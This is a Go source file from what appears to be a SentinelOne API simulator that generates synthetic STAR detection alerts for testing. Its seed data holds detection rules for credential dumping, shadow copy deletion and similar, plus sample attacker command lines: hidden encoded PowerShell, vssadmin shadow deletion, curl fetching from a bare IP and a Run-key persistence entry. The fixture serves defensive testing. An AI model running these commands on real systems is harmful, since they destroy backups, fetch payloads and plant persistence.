package s1sim

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// DefaultAlerts is the number of STAR alerts seeded when Options.Alerts is 0.
const DefaultAlerts = 30

// Alert is one STAR / cloud-detection alert: a custom detection rule matched an event of
// an agent. Its agent facts are those at detection time (agentDetectionInfo), so its site
// and account do not follow a later move of the agent.
type Alert struct {
	ID string // alertInfo.alertId
	// CreatedAt is when the event matched (the agent's time); an alert becomes visible
	// later (ReportedAt), so a walk by createdAt sees alerts appear behind its position.
	CreatedAt  string
	ReportedAt string
	UpdatedAt  string
	// AnalystVerdict is UNDEFINED, TRUE_POSITIVE, FALSE_POSITIVE or SUSPICIOUS, and
	// IncidentStatus UNRESOLVED, IN_PROGRESS or RESOLVED: the filters' vocabulary.
	AnalystVerdict string
	IncidentStatus string
	EventType      string
	DVEventID      string
	Rule           AlertRule
	AgentID        string
	SiteID         string
	AccountID      string

	agent   alertAgent
	process alertProcess
	// encoded is the alert's JSON, made when it is raised or changed (under the write
	// lock), so a list encodes nothing: walks of many pages stay cheap.
	encoded []byte
}

// encode refreshes a's JSON after a change.
func (a *Alert) encode() {
	b, err := json.Marshal(renderAlert(a))
	if err != nil {
		panic(fmt.Sprintf("s1sim: encode alert %s: %v", a.ID, err)) // maps of strings, bools and nil always encode
	}
	a.encoded = b
}

// AlertRule is the STAR rule that raised an alert.
type AlertRule struct {
	ID, Name, Severity, Description, QueryType, TreatAsThreat, S1QL string
}

// alertAgent is the agent of an alert as it was when the alert was raised.
type alertAgent struct {
	uuid, name, machineType, osFamily, osName, osRevision, version string
	infected, active, decommissioned                               bool
}

// alertProcess is the source process of an alert.
type alertProcess struct {
	name, path, cmdline, user, sha1, sha256, md5, storyline, uniqueID string
	pid                                                               int
	started                                                           string
	parentName, parentPath                                            string
	parentPID                                                         int
}

// starRules are the seeded custom detection rules.
var starRules = []AlertRule{
	{"1490000000000000101", "Encoded PowerShell", "High", "PowerShell started with an encoded command line.", "events", "Suspicious", `SrcProcCmdLine ContainsCIS "-enc"`},
	{"1490000000000000102", "Credential dumping", "Critical", "A process read the memory of lsass.exe.", "events", "Malicious", `TgtProcName = "lsass.exe" AND EventType = "Open Remote Process Handle"`},
	{"1490000000000000103", "Run key persistence", "Medium", "", "events", "Undefined", `RegistryKeyPath ContainsCIS "CurrentVersion\\Run"`},
	{"1490000000000000104", "Shadow copy deletion", "Critical", "vssadmin deleted the volume shadow copies.", "events", "Malicious", `SrcProcCmdLine ContainsCIS "delete shadows"`},
	{"1490000000000000105", "Curl to raw IP", "Low", "curl or wget fetched a file from a bare IP address.", "events", "Undefined", `SrcProcName In ("curl","wget") AND DstIP Exists`},
}

// eventTypes are the Deep Visibility event types STAR rules match.
var eventTypes = []string{"PROCESSCREATION", "REGVALUEMODIFIED", "FILEDELETION", "OPENPROCESS", "IP_CONNECT", "DNS"}

// alertProcesses are the seeded source processes.
var alertProcesses = []struct{ name, path, cmdline string }{
	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -w hidden -enc SQBFAFgA"},
	{"rundll32.exe", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\x.dll,Start`},
	{"vssadmin.exe", `C:\Windows\System32\vssadmin.exe`, "vssadmin.exe delete shadows /all /quiet"},
	{"curl", "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.7/x"},
	{"reg.exe", `C:\Windows\System32\reg.exe`, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd`},
}

// alertIDBase is below every generated alert id.
const alertIDBase = 1460000000000000000

// makeAlerts seeds n alerts over the fleet's agents from seed, in ties of up to three
// alerts sharing createdAt, each reported (visible) a few seconds after it was created.
// It uses its own random source, so the agents and threats stay as they were.
func (f *fleet) makeAlerts(n int, seed int64) {
	f.alerts, f.alertIdx = nil, map[string]int{}
	if len(f.agents) == 0 {
		return
	}
	rng := rand.New(rand.NewPCG(uint64(seed), 0xa1e575))
	id := uint64(alertIDBase)
	at := fleetEpoch
	for i := 0; i < n; i++ {
		if i == 0 || rng.IntN(3) == 0 { // else a tie with the previous alert
			at = at.Add(time.Duration(1+rng.IntN(7200)) * time.Second).Add(time.Duration(rng.IntN(1000)) * time.Millisecond)
		}
		id += 1 + rng.Uint64N(1<<24)
		a := newAlert(rng, strconv.FormatUint(id, 10), &f.agents[rng.IntN(len(f.agents))], at, at.Add(time.Duration(1+rng.IntN(20))*time.Second))
		f.addAlert(a)
	}
}

func (f *fleet) addAlert(a Alert) {
	a.encode()
	f.alertIdx[a.ID] = len(f.alerts)
	f.alerts = append(f.alerts, a)
}

// newAlert raises an alert on agent ag, created at created and visible from reported.
func newAlert(rng *rand.Rand, id string, ag *Agent, created, reported time.Time) Alert {
	rule := pick(rng, starRules)
	p := pick(rng, alertProcesses)
	if ag.OSType != "windows" {
		p = alertProcesses[3]
	}
	verdict, status := "UNDEFINED", "UNRESOLVED"
	switch r := rng.IntN(10); {
	case r == 0:
		verdict, status = "TRUE_POSITIVE", "RESOLVED"
	case r == 1:
		verdict, status = "FALSE_POSITIVE", "RESOLVED"
	case r == 2:
		status = "IN_PROGRESS"
	}
	family := ag.OSType
	return Alert{
		ID: id, CreatedAt: stamp(created), ReportedAt: stamp(reported), UpdatedAt: stamp(reported),
		AnalystVerdict: verdict, IncidentStatus: status,
		EventType: pick(rng, eventTypes), DVEventID: fmt.Sprintf("01H%023d", rng.Uint64N(1e18)),
		Rule: rule, AgentID: ag.ID, SiteID: ag.SiteID, AccountID: ag.AccountID,
		agent: alertAgent{uuid: ag.UUID, name: ag.ComputerName, machineType: ag.MachineType, osFamily: family,
			osName: ag.OSName, osRevision: ag.OSRevision, version: ag.AgentVersion,
			infected: ag.Infected, active: ag.IsActive, decommissioned: ag.IsDecommissioned},
		process: alertProcess{name: p.name, path: p.path, cmdline: p.cmdline, user: ag.Domain + `\` + ag.LastLoggedInUserName,
			sha1:      fmt.Sprintf("%016x%016x%08x", rng.Uint64(), rng.Uint64(), rng.Uint32()),
			sha256:    fmt.Sprintf("%016x%016x%016x%016x", rng.Uint64(), rng.Uint64(), rng.Uint64(), rng.Uint64()),
			md5:       fmt.Sprintf("%016x%016x", rng.Uint64(), rng.Uint64()),
			storyline: hexID(rng, 16), uniqueID: hexID(rng, 16), pid: 1000 + rng.IntN(60000),
			started:    stamp(created.Add(-time.Duration(1+rng.IntN(3600)) * time.Second)),
			parentName: "explorer.exe", parentPath: `C:\Windows\explorer.exe`, parentPID: 500 + rng.IntN(500)},
	}
}

// titleEnum renders a filter value (TRUE_POSITIVE) the way recorded alert objects carry
// it: the recordings show "Undefined" and "Unresolved"; the other words follow that form.
func titleEnum(s string) string {
	parts := strings.Split(strings.ToLower(s), "_")
	for i, p := range parts {
		if p != "" {
			parts[i] = strings.ToUpper(p[:1]) + p[1:]
		}
	}
	return strings.Join(parts, "")
}

const zeroTime = "1970-01-01T00:00:00Z"

// renderAlert is the v2.1 object of GET /cloud-detection/alerts, with the key set of the
// recorded answers (testdata/shapes/alert.xsoar.json).
func renderAlert(a *Alert) map[string]any {
	p, ag := a.process, a.agent
	var desc any
	if a.Rule.Description != "" {
		desc = a.Rule.Description
	}
	null := func(keys ...string) map[string]any {
		m := make(map[string]any, len(keys))
		for _, k := range keys {
			m[k] = nil
		}
		return m
	}
	info := null("dnsRequest", "dnsResponse", "dstIp", "dstPort", "indicatorCategory", "indicatorDescription",
		"indicatorName", "loginAccountDomain", "loginAccountSid", "loginIsAdministratorEquivalent", "loginIsSuccessful",
		"loginType", "loginsUserName", "modulePath", "moduleSha1", "netEventDirection", "registryKeyPath",
		"registryOldValue", "registryOldValueType", "registryPath", "registryValue", "srcIp", "srcMachineIp", "srcPort",
		"tiIndicatorComparisonMethod", "tiIndicatorSource", "tiIndicatorType", "tiIndicatorValue")
	for k, v := range map[string]any{
		"alertId": a.ID, "analystVerdict": titleEnum(a.AnalystVerdict), "incidentStatus": titleEnum(a.IncidentStatus),
		"createdAt": a.CreatedAt, "reportedAt": a.ReportedAt, "updatedAt": a.UpdatedAt, "dvEventId": a.DVEventID,
		"eventType": a.EventType, "hitType": "Events", "isEdr": true, "source": "STAR",
	} {
		info[k] = v
	}
	if a.EventType == "REGVALUEMODIFIED" {
		info["registryKeyPath"], info["registryPath"] = `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, `HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd`
		info["registryValue"], info["registryOldValue"], info["registryOldValueType"] = p.path, "", "BINARY"
	}
	return map[string]any{
		"alertInfo": info,
		"ruleInfo": map[string]any{"id": a.Rule.ID, "name": a.Rule.Name, "severity": a.Rule.Severity, "description": desc,
			"queryLang": "1.0", "queryType": a.Rule.QueryType, "s1ql": a.Rule.S1QL, "scopeLevel": "account",
			"treatAsThreat": a.Rule.TreatAsThreat},
		"agentDetectionInfo": map[string]any{"machineType": ag.machineType, "name": ag.name, "osFamily": ag.osFamily,
			"osName": ag.osName, "osRevision": ag.osRevision, "siteId": a.SiteID, "accountId": a.AccountID,
			"uuid": ag.uuid, "version": ag.version},
		"agentRealtimeInfo": map[string]any{"id": a.AgentID, "infected": ag.infected, "isActive": ag.active,
			"isDecommissioned": ag.decommissioned, "machineType": ag.machineType, "name": ag.name, "os": ag.osFamily,
			"uuid": ag.uuid},
		"sourceProcessInfo": map[string]any{"commandline": p.cmdline, "fileHashMd5": p.md5, "fileHashSha1": p.sha1,
			"fileHashSha256": p.sha256, "filePath": p.path, "fileSignerIdentity": nil, "integrityLevel": "high",
			"name": p.name, "pid": strconv.Itoa(p.pid), "pidStarttime": p.started, "storyline": p.storyline,
			"subsystem": "unknown", "uniqueId": p.uniqueID, "user": p.user},
		"sourceParentProcessInfo": map[string]any{"commandline": nil, "fileHashMd5": nil, "fileHashSha1": nil,
			"fileHashSha256": nil, "filePath": p.parentPath, "fileSignerIdentity": "MICROSOFT WINDOWS", "integrityLevel": "medium",
			"name": p.parentName, "pid": strconv.Itoa(p.parentPID), "pidStarttime": zeroTime, "storyline": p.storyline,
			"subsystem": "unknown", "uniqueId": nil, "user": p.user},
		"targetProcessInfo": map[string]any{"tgtFileCreatedAt": zeroTime, "tgtFileHashSha1": nil, "tgtFileHashSha256": nil,
			"tgtFileId": nil, "tgtFileIsSigned": nil, "tgtFileModifiedAt": zeroTime, "tgtFileOldPath": nil, "tgtFilePath": nil,
			"tgtProcCmdLine": nil, "tgtProcImagePath": nil, "tgtProcIntegrityLevel": "unknown", "tgtProcName": nil,
			"tgtProcPid": nil, "tgtProcSignedStatus": nil, "tgtProcStorylineId": nil, "tgtProcUid": nil,
			"tgtProcessStartTime": zeroTime},
		"containerInfo":  null("id", "image", "labels", "name"),
		"kubernetesInfo": null("cluster", "controllerKind", "controllerLabels", "controllerName", "namespace", "namespaceLabels", "node", "pod", "podLabels"),
	}
}
